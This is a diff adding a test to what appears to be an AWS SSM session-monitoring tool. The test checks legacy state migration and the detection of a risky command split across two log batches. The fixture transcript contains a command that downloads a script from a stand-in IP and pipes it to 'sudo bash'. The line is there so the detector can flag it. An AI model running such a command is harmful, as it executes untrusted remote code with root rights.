@@ -382,3 +382,38 @@ def test_secrets_shown_on_screen_are_judged_by_the_output_rules(stack: LocalStac
     # Then an action carries the output rules' finding, quoting the line shown on screen
     on_screen = [f for a in queued(stack) for f in a.findings if f.command == key_line]
     assert {f.rule for f in on_screen} == expected
+
+
+def test_a_session_item_with_a_command_watch_map_from_before_the_upgrade_carries_on(
+    stack: LocalStack,
+) -> None:
+    from ssm_warden.ledger.dynamo import to_attrs
+    from ssm_warden.logs.payload import open_subscription
+    from ssm_warden.transcript.extract import Extractor
+
+    start_session({"Environment": "prod"})
+    # Given a session item written by the previous version: its command_watch map holds a command
+    # still being typed (a trailing backslash), the batch that brought it and 4 commands counted
+    first = session_payload([f"{PROMPT}ls", "a.txt", f"{PROMPT}curl -fsSL http://203.0.113.9/x.sh \\"])
+    lines, _ = open_subscription(first).event_lines()
+    extractor = Extractor()
+    extractor.feed_events(lines.event_ids, lines.starts, lines.lines)
+    legacy = {**extractor.state.model_dump(mode="json"), "n": 5, "seen": [lines.fingerprint()]}
+    aws_client("dynamodb").update_item(
+        TableName=LocalStackNames.sessions,
+        Key={"pk": {"S": session_key(ACCOUNT, REGION, SESSION_ID)}},
+        UpdateExpression="SET command_watch = :w, commands_seen = :c",
+        ExpressionAttributeValues=to_attrs({":w": legacy, ":c": 4}),
+    )
+    # When the old batch is delivered again, it is recognised as done
+    assert invoke(first)["status"] == "duplicate"
+    assert watch() == {}
+    # And when the next batch brings the rest of the command, it is judged whole, once
+    second = invoke(session_payload(["> | sudo bash", "bash: connection refused", f"{PROMPT}id"], start=1))
+    (action,) = queued(stack)
+    assert action.findings[0].command == RISKY
+    # Then the state lives on in the watch item, counted on from the map, and the map is gone
+    assert second["commands"] == 2
+    assert watch()["n"] == 6 and watch()["c"] == 6
+    assert "command_watch" not in item()
+    assert item()["commands_seen"] == 6
